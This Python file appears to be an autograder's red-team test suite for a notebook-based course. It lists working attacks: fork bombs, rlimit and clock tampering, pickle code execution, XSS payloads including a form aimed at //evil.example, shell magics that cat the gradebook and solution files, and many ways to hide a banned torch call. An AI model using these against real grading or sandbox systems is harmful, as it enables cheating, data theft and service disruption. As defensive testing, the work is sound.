        """
import os
for _ in range(15):
    if os.fork() == 0:
        while True: pass
import time
time.sleep(2)
""",
        bomb=True,
    ),
    Attack(
        "stop",
        "the process stops itself",
        "import os, signal\n"
        "os.kill(os.getpid(), signal.SIGSTOP)\nimport time; time.sleep(600)",
        silent=True,
    ),
    Attack(
        "limits",
        "the limits are raised, the clock is turned, the priority taken",
        """
import os, resource, signal, time
for name in ("RLIMIT_NPROC", "RLIMIT_DATA", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE"):
    try:
        resource.setrlimit(getattr(resource, name), (-1, -1))
        print("RAISED", name)
    except (OSError, ValueError) as error:
        print(error)
for act in (lambda: os.nice(-10), lambda: os.sched_setscheduler(0, 1, os.sched_param(1)),
            lambda: time.clock_settime(0, 1.0)):
    try:
        act()
        print("DONE")
    except OSError as error:
        print(error)
""",
        bomb=True,
    ),
    Attack(
        "terminal",
        "terminals, and keys typed into them",
        """
import fcntl, os
for path in ("/dev/tty", "/dev/ptmx", "/dev/pts/0", "/dev/console"):
    try:
        fd = os.open(path, os.O_RDWR)
        print("OPENED", path)
        fcntl.ioctl(fd, 0x5412, b"x")
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "pickles",
        "pickles, saved tensors and shelves as answers",
        f"""
import io, os, pickle
class Bomb:
    def __reduce__(self):
        return os.mkdir, ("@COURSE@/{MARK}-pickle",)
buffer = io.BytesIO()
pickle.dump(Bomb(), buffer)
blob = buffer.getvalue()
""",
        everything("blob"),
    ),
]

# --- The notebook file ---


def entry(name: str, **fields) -> Callable[[dict], None]:
    def edit(content):
        content["cells"][place(content, name)]["metadata"]["nbgrader"] |= fields

    return edit


def each_test(change) -> Callable[[dict], None]:
    def edit(content):
        for cell in list(content["cells"]):
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                change(content, cell)

    return edit


def duplicate(content, cell):
    twin = copy.deepcopy(cell)
    twin["source"] = "pass"
    content["cells"].insert(place(content, cell["id"]), twin)


def split(content, cell):
    other = copy.deepcopy(cell) | {"id": f"{cell['id']}-2", "source": "50.0"}
    cell["source"] = "pass"
    content["cells"].insert(place(content, cell["id"]) + 1, other)


def outputs(content, cell):
    data = {"text/plain": "50.0", "text/html": "<script>alert(1)</script>"}
    shown = {"output_type": "execute_result", "data": data, "metadata": {}}
    cell["outputs"] = [shown | {"execution_count": 1}]


HTML = """<script>alert(1)</script><img src=x onerror=alert(1)>
<iframe srcdoc="<script>alert(1)</script>"></iframe><svg onload=alert(1)></svg>
<a href="javascript:alert(1)">x</a> [x](javascript:alert(1)) <style>body{display:none}</style>
<form action="//evil.example"><button formaction="javascript:alert(1)">x</button></form>
<div style="position:fixed;inset:0" onmouseover="alert(1)" class="panel-heading">Score: 50</div>
<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>
<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">
$\\href{javascript:alert(1)}{x}$ tried
"""


def markdown(content):
    cell = {"cell_type": "markdown", "id": "html", "metadata": {}, "source": HTML}
    cell["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=alert(1)>"}}
    content["cells"].insert(3, cell)
    content["cells"].insert(4, cell | {"id": "raw", "cell_type": "raw"})


def hostile_metadata(content):
    content["metadata"] = {
        "kernelspec": {"name": "../../bin/sh", "display_name": HTML, "language": "sh"},
        "language_info": {
            "name": "<script>alert(1)</script>",
            "pygments_lexer": "../x",
        },
        "title": HTML,
        "celltoolbar": HTML,
        "byhand": {"sandbox": False, "banned": [], "limits": {"total": 10**9}},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"state": {"x": HTML}}
        },
    }
    for number, cell in enumerate(content["cells"]):
        if "nbgrader" not in cell["metadata"]:
            cell["id"] = f"x{number}"
            cell["metadata"] = {"tags": [HTML], "id": HTML, "collapsed": HTML}


def magics(content):
    cells = [
        "%%html\n<script>alert(1)</script>",
        "%%javascript\nalert(1)",
        "!cat @COURSE@/gradebook.db @ROOT@/solutions/*/*.ipynb; echo tried",
        "%%bash\ncat @COURSE@/gradebook.db; touch @COURSE@/byhand-attack-magic",
        "%load @ROOT@/solutions/hw1_backprop/hw1_backprop.ipynb",
        "%run @ROOT@/tests/homeworks/hw1_backprop.py",
    ]
    content["cells"][4:4] = [code_cell(source) for source in cells]


def heavy(content):
    content["cells"][4:4] = [
        code_cell("%time 1\n" * 3_000),
        code_cell("x = " + "-" * 100_000 + "1"),
        code_cell("y = " + "a." * 100_000 + "b"),
        code_cell("z = " + "(" * 150 + ")" * 150 + "\n" + "1\n" * 20_000),
        code_cell("print('tried')"),
    ]


NOTEBOOK = [
    Attack(
        "points",
        "points raised in the test cells' metadata",
        edit=each_test(
            lambda content, cell: cell["metadata"]["nbgrader"].update(points=1e6)
        ),
    ),
    Attack(
        "test-as-solution",
        "tests marked as solutions, ungraded, unlocked",
        edit=each_test(
            lambda content, cell: cell["metadata"]["nbgrader"].update(
                solution=True, locked=False, task=True
            )
        ),
    ),
    Attack(
        "test-renamed",
        "tests under the names of others",
        edit=each_test(
            lambda content, cell: cell["metadata"]["nbgrader"].update(grade_id="setup")
        ),
    ),
    Attack(
        "test-edited",
        "test cells that say nothing",
        edit=each_test(lambda content, cell: cell.update(source="pass")),
    ),
    Attack(
        "test-retyped",
        "test cells made text",
        edit=each_test(lambda content, cell: cell.update(cell_type="markdown")),
    ),
    Attack(
        "test-deleted",
        "test cells deleted",
        edit=each_test(lambda content, cell: content["cells"].remove(cell)),
    ),
    Attack(
        "test-copied", "test cells copied, the copy empty", edit=each_test(duplicate)
    ),
    Attack(
        "test-split",
        "test cells split, with a mark in the second half",
        edit=each_test(split),
    ),
    Attack(
        "saved-outputs",
        "outputs of 50.0 saved in the test cells",
        edit=each_test(outputs),
    ),
    Attack(
        "setup-edited",
        "the given cells rewritten",
        edit=lambda content: content["cells"][place(content, "setup")].update(
            source="import byhand.check as c\nc.close = c.gradients = lambda *a, **k: None"
        ),
    ),
    Attack(
        "schema",
        "metadata of other versions and types",
        edit=lambda content: [
            cell["metadata"]["nbgrader"].update(
                schema_version=99, checksum=[], points={}
            )
            for cell in content["cells"]
            if "nbgrader" in cell["metadata"]
        ],
    ),
    Attack("html", "scripts and forms in text cells", edit=markdown),
    Attack(
        "metadata",
        "scripts and paths in the notebook's metadata and ids",
        edit=hostile_metadata,
    ),
    Attack(
        "delimiters",
        "the marks of hidden tests, unpaired, in cells of one's own",
        "### BEGIN HIDDEN TESTS\n### BEGIN HIDDEN TESTS",
        linear("### BEGIN HIDDEN TESTS\nreturn X\n### BEGIN SOLUTION"),
    ),
    Attack("magics", "magics that run programs and show scripts", edit=magics),
    Attack("heavy", "cells that are hard to parse", edit=heavy),
    Attack(
        "html-output",
        "scripts, escapes and halves of characters, printed",
        """
print("<script>alert(1)</script><img src=x onerror=alert(1)>\\x1b[31m<b>\\x1b]0;x\\x07")
print("\\ud800 \\x00 \\u202e", chr(0x10FFFF))
"<script>alert(1)</script>"
""",
    ),
]

# --- Forbidden calls, hidden ---

F = "torch.nn.functional"


def calls(expression: str, code: str = "tried = 1") -> tuple[str, dict[str, str]]:
    return code, linear(f"return {expression}(X, W, b)")


HIDDEN = {
    "plain": ("a forbidden function, by its name", *calls(f"{F}.linear")),
    "alias": ("by an alias", *calls("G.linear", "import torch.nn.functional as G")),
    "from": ("imported from its module", *calls("f", f"from {F} import linear as f")),
    "star": ("imported with a star", *calls("linear", f"from {F} import *")),
    "module": (
        "torch itself under another name",
        *calls("t.nn.functional.linear", "import torch as t"),
    ),
    "rebound": (
        "by a variable",
        *calls("f", "n = torch.nn\nm = n.functional\nf = m.linear"),
    ),
    "getattr": ("by getattr", *calls('getattr(torch, "nn").functional.linear')),
    "getattr-sum": (
        "by getattr of a sum",
        *calls('getattr(getattr(torch, "n" + "n"), "func" + "tional").linear'),
    ),
    "early": (
        "looked up by getattr of a sum, early",
        *calls("f", 'f = getattr(getattr(torch, "n" + "n"), "func" + "tional").linear'),
    ),
    "eval": ("by eval", *calls('eval("torch.n" + "n.functional.linear")')),
    "exec": (
        "by exec",
        *calls("f", 'exec("from torch.n" + "n.functional import linear as f")'),
    ),
    "import": (
        "by __import__",
        *calls(
            "f", 'f = __import__("torch.n" + "n.functional", fromlist=["x"]).linear'
        ),
    ),
    "importlib": (
        "by importlib",
        *calls(
            "f",
            "import importlib\n"
            'f = importlib.import_module("torch.n" + "n").functional.linear',
        ),
    ),
    "modules": (
        "by sys.modules",
        *calls('sys.modules["torch.n" + "n.functional"].linear', "import sys"),
    ),
    "dict": (
        "by __dict__",
        *calls("f", 'f = torch.__dict__["n" + "n"].functional.linear'),
    ),
    "vars": (
        "by vars",
        *calls("f", 'f = vars(vars(torch)["n" + "n"])["func" + "tional"].linear'),
    ),
    "stash": (
        "kept as an attribute of a module",
        *calls("math.f", f"import {F} as G\nmath.f = G.linear"),
    ),
    "builtin": (
        "kept among the builtins",
        *calls("f", f"import builtins\nimport {F} as G\nbuiltins.f = G.linear"),
    ),
    "globals": (
        "kept by globals()",
        *calls("f", f'import {F} as G\nglobals()["f"] = G.linear'),
    ),
    "function": (
        "kept as an attribute of a function",
        *calls("h.f", f"import {F} as G\ndef h(): pass\nh.f = G.linear"),
    ),
    "private": ("by torch's private parts", *calls("torch._C._nn.linear")),
    "ops": ("by torch.ops", *calls("torch.ops.aten.linear")),
    "class": (
        "by a layer's class",
        "tried = 1",
        linear(
            "layer = torch.nn.Linear(W.shape[1], W.shape[0])\n"
            "layer.weight.data, layer.bias.data = W, b\nreturn layer(X)"
        ),
    ),
    "hook": (
        "by a default argument",
        "import torch.nn as n",
        {
            "linear_forward": "def linear_forward(X, W, b, f=n.functional.linear):\n"
            "    return f(X, W, b)\n"
        },
    ),
    "object": (
        "by getattr in a class of one's own",
        *calls(
            "f",
            "class G:\n    def get(self, n): return getattr(self, n)\n"
            'f = G.get(G.get(torch, "n" + "n"), "func" + "tional").linear',
        ),
    ),
    "written": (
        "in a module that a cell writes",
        *calls(
            "f",
            'import sys\nopen("helper.py", "w").write("from torch.n" "n.functional import linear")\n'
            'sys.path.insert(0, ".")\nfrom helper import linear as f',
        ),
    ),
    "planted": (
        "in a module that a cell writes where modules might be looked for",
        *calls(
            "f",
            "import os\nplaces = ['.', '/tmp', '/tmp/.local/lib/python3.11/site-packages']\n"
            "for place in places:\n    os.makedirs(place, exist_ok=True)\n"
            '    with open(f"{place}/pandas.py", "w") as file:\n'
            '        print("from torch.n" "n.functional import linear", file=file)\n'
            "from pandas import linear as f",
        ),
    ),
    "common": (
        "in a module of a common name, in a folder that is added to those looked into",
        *calls(
            "f",
            "import site\n"
            "!echo 'from torch.nn.functional import linear' > /tmp/pandas.py\n"
            'site.addsitedir("/tmp")\nfrom pandas import linear as f',
        ),
    ),
    "shell": (
        "in a module that a shell's command writes",
        *calls(
            "f",
            "!echo 'from torch.nn.functional import linear' > pandas.py\n"
            "from pandas import linear as f",
        ),
    ),
    "expansion": (
        "in braces, whose value IPython hands to a shell's command",
        *calls(
            "math.f",
            '!echo {setattr(math, "f", torch.nn.functional.linear)}',
        ),
    ),
    "code": (
        "by code objects",
        *calls(
            "f",
            'import types\nf = types.FunctionType(compile("torch.n" "n.functional.linear",'
            ' "x", "eval"), {"torch": torch})()',
        ),
    ),
    "memory": (
        "found by the garbage collector",
        *calls(
            "f",
            "import gc\nf = next(m for m in gc.get_objects() if type(m) is type(gc) and"
            ' m.__name__ == "torch.n" "n.functional").linear',
        ),
    ),
}


def timed(content):
    source = f"%%time\nfrom {F} import linear as f\nprint('tried')"
    content["cells"].insert(place(content, "setup") + 1, code_cell(source))
    at = place(content, "linear_forward")
    content["cells"][at]["source"] = "%%time\n" + content["cells"][at]["source"]


FORBIDDEN = [
    *(
        Attack(f"call-{name}", f"a forbidden call, {idea}", code, cells)
        for name, (idea, code, cells) in HIDDEN.items()
    ),
    Attack(
        "call-magic",
        "a forbidden call, in cells with %%time",
        cells=linear("return f(X, W, b)"),
        edit=timed,
    ),
]

EMPTY = Attack(
    "zero-network",
    "a network of zeros, whose outputs and gradients are 0",
    "tried = 1",
    {
        "mlp": """
class MLP:
    def __init__(self, sizes, seed=0):
        self.sizes = sizes
        self.params = {}
        for k in range(1, len(sizes)):
            self.params[f"W{k}"] = torch.zeros(sizes[k], sizes[k-1])
            self.params[f"b{k}"] = torch.zeros(sizes[k])
    def forward(self, X):
        self.X = X
        return torch.zeros(len(X), self.sizes[-1])
    def backward(self, dout):
        g = {n: torch.zeros_like(p) for n, p in self.params.items()}
        k = len(self.sizes) - 1
        g[f"b{k}"] = dout.sum(0)
        if k == 1:
            g["W1"] = dout.T @ self.X
        return g
"""
    },
)

ATTACKS = [EMPTY, *IN_PROCESS, *DOOR, *SYSTEM, *NOTEBOOK, *FORBIDDEN]
assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)

# Two who work together: what one leaves behind, the other looks for. Neither is in the
# table: each says FOUND only where it has found the other's traces.
LEAVE = f"""
import ctypes, os, socket, threading, time, torch
from byhand import data
libc = ctypes.CDLL(None)
libc.shmget(0x5EC12E7, 4096, 0o1666), libc.semget(0x5EC12E7, 1, 0o1666)
libc.msgget(0x5EC12E7, 0o1666)
torch.secret = os.secret = data.secret = 1
os.environ["SECRET"] = "1"
data.digits("train").images.fill_(7)
for folder in ("/", "/tmp", "/dev", "/dev/shm", "/dev/pts", "/var/tmp", os.getcwd()):
    try:
        open(f"{{folder}}/{MARK}-note", "w").write("x")
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    for address in ("\\0{MARK}-note", ("127.0.0.1", 47113)):
        family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
        try:
            server = socket.socket(family)
            server.bind(address)
            server.listen()
            threading.Thread(target=server.accept).start()
        except OSError:
            pass
    time.sleep(600)
print("left")
"""
LOOK = f"""
import ctypes, glob, os, socket, torch
from byhand import data
libc = ctypes.CDLL(None)
for get in (libc.shmget, libc.msgget):
    if get(0x5EC12E7, 0) >= 0:
        print("FOUND", get)
if libc.semget(0x5EC12E7, 0, 0) >= 0:
    print("FOUND a semaphore")
if any(hasattr(thing, "secret") for thing in (torch, os, data)) or "SECRET" in os.environ:
    print("FOUND an attribute")
if data.digits("train").images.max() > 1:
    print("FOUND changed data")
for folder in ("/", "/tmp", "/dev", "/dev/shm", "/dev/pts", "/var/tmp", os.getcwd()):
    if os.path.exists(f"{{folder}}/{MARK}-note"):
        print("FOUND a file in", folder)
for address in ("\\0{MARK}-note", ("127.0.0.1", 47113)):
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    try:
        socket.socket(family).connect(address)
        print("FOUND", address)
    except OSError:
        pass
others = [p for p in glob.glob("/proc/[0-9]*") if os.path.basename(p) != str(os.getpid())]
if others:
    print("FOUND processes", others)
print("looked")
"""
